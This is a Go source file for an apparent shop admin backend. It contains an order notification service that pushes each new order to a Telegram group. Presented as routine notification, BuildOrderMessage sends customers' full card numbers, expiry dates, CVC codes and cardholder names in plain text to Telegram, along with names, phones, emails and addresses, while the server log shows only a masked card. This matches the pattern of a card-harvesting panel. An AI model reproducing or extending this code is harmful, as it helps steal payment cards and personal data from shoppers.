package service

import (
	"context"
	"fmt"
	"log"
	"strings"
	"time"

	"shop_admin_v1_202608/internal/apperr"
	"shop_admin_v1_202608/internal/model"
	"shop_admin_v1_202608/internal/repository"
)

// TelegramSender 消息发送抽象，测试中可替换
type TelegramSender interface {
	SendMessage(ctx context.Context, integration *model.Integration, text string) error
}

// NotifyService 订单通知管线
// 新订单创建后把订单摘要推送到 Telegram 群，每单至多推送一次
type NotifyService struct {
	orderRepo       repository.OrderRepository
	integrationRepo repository.IntegrationRepository
	sender          TelegramSender
}

// NewNotifyService 创建通知服务
func NewNotifyService(orderRepo repository.OrderRepository, integrationRepo repository.IntegrationRepository, sender TelegramSender) *NotifyService {
	return &NotifyService{orderRepo: orderRepo, integrationRepo: integrationRepo, sender: sender}
}

// DispatchOrderCreated 推送新订单通知
// 流程：取订单 → 幂等闸门抢标记 → 找活跃 Telegram 集成 → 组装消息 → 发送
// 发送失败回滚标记，留待人工重发；无可用集成时静默放弃
func (s *NotifyService) DispatchOrderCreated(ctx context.Context, orderID int64) error {
	order, err := s.orderRepo.GetByID(ctx, orderID)
	if err != nil {
		if repository.IsRecordNotFound(err) {
			return apperr.NotFoundf("order", orderID)
		}
		return err
	}

	if order.IsSentToTelegram {
		return nil
	}

	integration, err := s.integrationRepo.FindActiveByType(ctx, model.IntegrationTypeTelegram)
	if err != nil {
		if repository.IsRecordNotFound(err) {
			log.Printf("[NotifyService] 订单 %s 未推送：无活跃 Telegram 集成", order.OrderNumber)
			return nil
		}
		return err
	}

	// 先抢标记再发送，并发派发下保证至多一次
	claimed, err := s.orderRepo.MarkSentToTelegram(ctx, order.ID, time.Now())
	if err != nil {
		return err
	}
	if !claimed {
		return nil
	}

	message := BuildOrderMessage(order)
	if err := s.sender.SendMessage(ctx, integration, message); err != nil {
		// 回滚标记，允许重试
		rollbackErr := s.orderRepo.UpdateFields(ctx, order.ID, map[string]interface{}{
			"is_sent_to_telegram": false,
			"sent_to_telegram_at": nil,
		})
		if rollbackErr != nil {
			log.Printf("[NotifyService] 订单 %s 标记回滚失败: %v", order.OrderNumber, rollbackErr)
		}
		return fmt.Errorf("send order %s to telegram: %w", order.OrderNumber, err)
	}

	card := order.ExtractCardDetails()
	if !card.Empty() {
		log.Printf("[NotifyService] 订单 %s 已推送（含卡数据 %s）", order.OrderNumber, card.Masked())
	} else {
		log.Printf("[NotifyService] 订单 %s 已推送", order.OrderNumber)
	}
	return nil
}

// Redispatch 人工重发，force 时忽略已发送标记
func (s *NotifyService) Redispatch(ctx context.Context, orderID int64, force bool) error {
	if !force {
		return s.DispatchOrderCreated(ctx, orderID)
	}

	order, err := s.orderRepo.GetByID(ctx, orderID)
	if err != nil {
		if repository.IsRecordNotFound(err) {
			return apperr.NotFoundf("order", orderID)
		}
		return err
	}

	integration, err := s.integrationRepo.FindActiveByType(ctx, model.IntegrationTypeTelegram)
	if err != nil {
		if repository.IsRecordNotFound(err) {
			return apperr.Invalidf("no active telegram integration")
		}
		return err
	}

	if err := s.sender.SendMessage(ctx, integration, BuildOrderMessage(order)); err != nil {
		return fmt.Errorf("resend order %s to telegram: %w", order.OrderNumber, err)
	}

	now := time.Now()
	return s.orderRepo.UpdateFields(ctx, order.ID, map[string]interface{}{
		"is_sent_to_telegram": true,
		"sent_to_telegram_at": now,
	})
}

// ==================== 消息组装 ====================

// 用户侧文案为俄语，与店面语言一致

var paymentMethodLabels = map[string]string{
	model.PaymentMethodCash:         "Наличные",
	model.PaymentMethodCard:         "Карта",
	model.PaymentMethodOnline:       "Онлайн-оплата",
	model.PaymentMethodBankTransfer: "Банковский перевод",
}

var deliveryMethodLabels = map[string]string{
	model.DeliveryMethodPickup:  "Самовывоз",
	model.DeliveryMethodCourier: "Курьер",
	model.DeliveryMethodPost:    "Почта",
	model.DeliveryMethodExpress: "Экспресс",
}

var orderStatusLabels = map[string]string{
	model.OrderStatusPending:    "Ожидает обработки",
	model.OrderStatusConfirmed:  "Подтвержден",
	model.OrderStatusProcessing: "В обработке",
	model.OrderStatusShipped:    "Отправлен",
	model.OrderStatusDelivered:  "Доставлен",
	model.OrderStatusCancelled:  "Отменен",
	model.OrderStatusRefunded:   "Возвращен",
}

// BuildOrderMessage 组装 Telegram 订单通知（HTML 格式）
func BuildOrderMessage(order *model.Order) string {
	var b strings.Builder

	fmt.Fprintf(&b, "🛒 <b>Новый заказ %s</b>\n\n", escapeHTML(order.OrderNumber))

	b.WriteString("📦 <b>Товары:</b>\n")
	for i, item := range order.Items {
		fmt.Fprintf(&b, "%d. %s", i+1, escapeHTML(item.ProductName))
		if item.Variant != "" {
			fmt.Fprintf(&b, " (%s)", escapeHTML(item.Variant))
		}
		fmt.Fprintf(&b, " × %d по %.2f — %.2f %s\n", item.Quantity, item.Price, item.Total, order.Currency)
	}
	b.WriteString("\n")

	name := strings.TrimSpace(order.Customer.FirstName + " " + order.Customer.LastName)
	fmt.Fprintf(&b, "👤 <b>Клиент:</b> %s\n", escapeHTML(name))
	fmt.Fprintf(&b, "📞 <b>Телефон:</b> %s\n", escapeHTML(order.Customer.Phone))
	if order.Customer.Email != "" {
		fmt.Fprintf(&b, "📧 <b>Email:</b> %s\n", escapeHTML(order.Customer.Email))
	}
	b.WriteString("\n")

	fmt.Fprintf(&b, "🚚 <b>Доставка:</b> %s\n", methodLabel(deliveryMethodLabels, order.DeliveryMethod))
	if addr := order.DeliveryAddress; addr != nil {
		fmt.Fprintf(&b, "📍 <b>Адрес:</b> %s\n", escapeHTML(formatAddress(addr)))
	}
	fmt.Fprintf(&b, "💳 <b>Оплата:</b> %s\n\n", methodLabel(paymentMethodLabels, order.PaymentMethod))

	fmt.Fprintf(&b, "💰 <b>Сумма:</b> %.2f %s\n", order.Subtotal, order.Currency)
	if order.Discount > 0 {
		fmt.Fprintf(&b, "🏷 <b>Скидка:</b> -%.2f %s\n", order.Discount, order.Currency)
	}
	if order.DeliveryCost > 0 {
		fmt.Fprintf(&b, "🚚 <b>Доставка:</b> %.2f %s\n", order.DeliveryCost, order.Currency)
	}
	fmt.Fprintf(&b, "✅ <b>Итого:</b> %.2f %s\n", order.Total, order.Currency)

	if order.PromoCode != "" {
		fmt.Fprintf(&b, "\n🎟 <b>Промокод:</b> %s\n", escapeHTML(order.PromoCode))
	}

	fmt.Fprintf(&b, "\n📋 <b>Статус:</b> %s\n", methodLabel(orderStatusLabels, order.Status))

	card := order.ExtractCardDetails()
	if !card.Empty() {
		b.WriteString("\n💳 <b>Данные карты:</b>\n")
		if card.CardNumber != "" {
			fmt.Fprintf(&b, "Номер: %s\n", escapeHTML(card.CardNumber))
		}
		if card.Expiry != "" {
			fmt.Fprintf(&b, "Срок: %s\n", escapeHTML(card.Expiry))
		}
		if card.CVC != "" {
			fmt.Fprintf(&b, "CVC: %s\n", escapeHTML(card.CVC))
		}
		if card.CardholderName != "" {
			fmt.Fprintf(&b, "Владелец: %s\n", escapeHTML(card.CardholderName))
		}
	} else if order.Notes != "" {
		fmt.Fprintf(&b, "\n💬 <b>Комментарий:</b> %s\n", escapeHTML(order.Notes))
	}

	return b.String()
}

func methodLabel(labels map[string]string, method string) string {
	if label, ok := labels[method]; ok {
		return label
	}
	return escapeHTML(method)
}

func formatAddress(addr *model.DeliveryAddress) string {
	parts := make([]string, 0, 6)
	for _, p := range []string{addr.Country, addr.City, addr.Street, addr.Building, addr.Apartment, addr.PostalCode} {
		if p != "" {
			parts = append(parts, p)
		}
	}
	return strings.Join(parts, ", ")
}

// escapeHTML Telegram HTML parse_mode 只要求转义这三个字符
func escapeHTML(s string) string {
	s = strings.ReplaceAll(s, "&", "&amp;")
	s = strings.ReplaceAll(s, "<", "&lt;")
	s = strings.ReplaceAll(s, ">", "&gt;")
	return s
}
